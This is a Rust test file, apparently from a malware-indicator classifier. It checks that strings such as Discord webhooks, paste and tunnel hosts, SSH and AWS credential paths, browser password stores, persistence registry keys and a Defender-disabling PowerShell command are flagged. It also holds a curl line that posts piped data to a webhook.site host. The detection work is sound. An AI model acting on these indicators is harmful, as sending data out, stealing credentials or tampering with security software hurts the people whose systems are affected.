//! What strings name, and what they do not.

use hognose_behaviour::FactKind::{self, *};
use hognose_behaviour::content::classify;
use proptest::prelude::*;

fn kinds(text: &str) -> Vec<FactKind> {
    let mut kinds: Vec<_> = classify(text).into_iter().map(|(kind, _)| kind).collect();
    kinds.sort_unstable();
    kinds.dedup();
    kinds
}

#[track_caller]
fn names(text: &str, expected: &[FactKind]) {
    let mut expected = expected.to_vec();
    expected.sort_unstable();
    assert_eq!(kinds(text), expected, "{text}");
}

#[test]
fn endpoints() {
    names("https://discord.com/api/webhooks/", &[EndpointWebhook]);
    names(
        "https://canary.discord.com/api/webhooks/1",
        &[EndpointWebhook],
    );
    names("https://discord.com/developers", &[EndpointOther]);
    names(
        "https://api.telegram.org/bot{}/sendMessage",
        &[EndpointTelegram],
    );
    names("curl -d @- abc.webhook.site/x", &[EndpointOast]);
    names("http://x1.oast.fun", &[EndpointOast]);
    names("https://rentry.co/abc/raw", &[EndpointPaste]);
    names("tcp://0.tcp.eu.ngrok.io:1337", &[EndpointTunnel]);
    names("https://store4.gofile.io/uploadFile", &[EndpointFilehost]);
    names(
        "https://raw.githubusercontent.com/a/b/main/c.txt",
        &[EndpointRawcode],
    );
    names(
        "https://github.com/a/b/raw/main/c.exe?x=1",
        &[EndpointRawcode, EndpointExecutable],
    );
    names("http://abcdef.onion/gate", &[EndpointOnion]);
    names("https://bit.ly/x", &[EndpointShortener]);
    names("evil.duckdns.org:8080", &[EndpointDynamic]);
    names("https://files.example.top/", &[EndpointDynamic]);
    names(
        "https://example.invalid/a.ps1",
        &[EndpointOther, EndpointExecutable],
    );
    names("http://{}/a.exe", &[EndpointExecutable]);
    names("http://localhost:%s/a.jar", &[]);
    names("https://api.ipify.org?format=json", &[IpLookup]);
    names(
        "http://169.254.169.254/latest/meta-data/iam/",
        &[CloudMetadata],
    );
    names("http://240.1.2.3:8080/x", &[EndpointIp]);
    names("http://0xf0010203/x", &[EndpointIp]);
    names(
        "http://user:pw@240.1.2.3/a.exe",
        &[EndpointIp, EndpointExecutable],
    );
    names("http://[2a00:1::1]:80/x", &[EndpointIp]);
    names("240.41.42.43", &[EndpointIp]);
    names("240.41.42.43:4444", &[EndpointIp]);
    names(
        "stratum+tcp://pool.example.invalid:3333",
        &[EndpointOther, Miner],
    );
}

#[test]
fn secrets_beside_their_address() {
    let token = "aB3dE5gH7".repeat(8);
    names(
        &format!("https://discord.com/api/webhooks/123456789012345678/{token}"),
        &[EndpointWebhook, WebhookSecret],
    );
    names(
        &format!("1234567890:AA{}", "a1Bc2De3Fg4".repeat(3)),
        &[WebhookSecret],
    );
    names(
        "https://discord.com/api/webhooks/{id}/{token}",
        &[EndpointWebhook],
    );
}

#[test]
fn no_endpoints() {
    for text in [
        "",
        "1.2.3.4",
        "10.0.19041.0",
        "115.0.0.0",
        "http://localhost:8000/a",
        "http://127.0.0.1/x",
        "http://{host}/",
        "http://%s:%d/",
        "http://www.w3.org/2000/svg",
        "os.path.join",
        "import io; file.io.read()",
        "s3://bucket/key.sh",
        "http://192.168.1.1/x.html",
        "is.gd(",
        "255.255.255.0",
        "Enter your login data",
        "model.pth",
        "https://",
        "://",
        "webdata",
        "the web data connector",
        "bashrc",
    ] {
        names(text, &[]);
    }
}

#[test]
fn files_and_names() {
    names("~/.ssh/id_rsa", &[SshRead]);
    names(r"C:\Users\x\.ssh\id_ed25519", &[SshRead]);
    names("/home/u/.aws/credentials", &[CloudCredentials]);
    names(".npmrc", &[TokenFile]);
    names("/etc/passwd", &[SystemAccounts]);
    names(
        r"\Google\Chrome\User Data\Default\Login Data",
        &[BrowserStore],
    );
    names("Login Data", &[BrowserStore]);
    names("CryptUnprotectData", &[BrowserDecrypt]);
    names(r"\discord\Local Storage\leveldb\", &[DiscordToken]);
    names(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", &[DiscordToken]);
    names(
        r"Software\Microsoft\Windows\CurrentVersion\Run",
        &[PersistRegistry],
    );
    names(
        r"Microsoft\Windows\Start Menu\Programs\Startup\x.vbs",
        &[PersistStartup],
    );
    names("/usr/lib/python3/site-packages/x.pth", &[PersistSite]);
    names("~/.bashrc", &[PersistProfile]);
    names("AWS_SECRET_ACCESS_KEY", &[EnvSecret]);
    names("aws_secret_access_key", &[]);
    names("nkbihfbeogaeaoehlefnkodbefgpgknn", &[Wallet]);
    names(
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        &[SecurityTamper],
    );
    names("VBoxService.exe", &[AntiVm]);
    names("getSignaturesForAddress", &[EndpointBlockchain]);
}

#[test]
fn addresses_of_currencies_need_their_checksum() {
    // The first block's address, known to everybody.
    names("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", &[CryptoAddress]);
    names("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", &[]);
    names("BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4", &[]);
    names(
        "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
        &[CryptoAddress],
    );
    names("0x0000000000000000000000000000000000000000", &[]);
    names("^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$", &[CryptoAddress]);
}

#[test]
fn one_address_that_matters_is_kept_among_many() {
    let mut text = String::new();
    for n in 0..20_000 {
        text.push_str(&format!("https://h{n}.example.invalid/ "));
    }
    text.push_str("https://pastebin.com/raw/x");
    let found = classify(&text);
    assert!(found.len() < 40);
    assert!(found.iter().any(|(kind, _)| *kind == EndpointPaste));
}

#[test]
fn megabytes_are_quick_to_read() {
    for unit in [
        "://",
        "/webhooks/1",
        ":AA",
        "http://",
        "1.",
        "a",
        ".ssh/id_rsa ",
        "\u{4e2d}",
        "[\\w-]{24}\\.",
        "@",
    ] {
        let text = unit.repeat(2_000_000 / unit.len());
        let start = std::time::Instant::now();
        classify(&text);
        assert!(
            start.elapsed().as_secs() < 300,
            "{unit}: {:?}",
            start.elapsed()
        );
    }
}

proptest! {
    #[test]
    fn any_text_is_survived(text in any::<String>()) {
        classify(&text);
    }

    #[test]
    fn any_mix_of_parts_is_survived(parts in prop::collection::vec(prop::sample::select(vec![
        "://", "http", "[", "]", "é", "中", "/webhooks/", "12345678", ":AA", "@", ".", "0x", "\\", "pastebin.com", "Login Data", "%", "\n",
    ]), 0..20)) {
        classify(&parts.concat());
    }
}
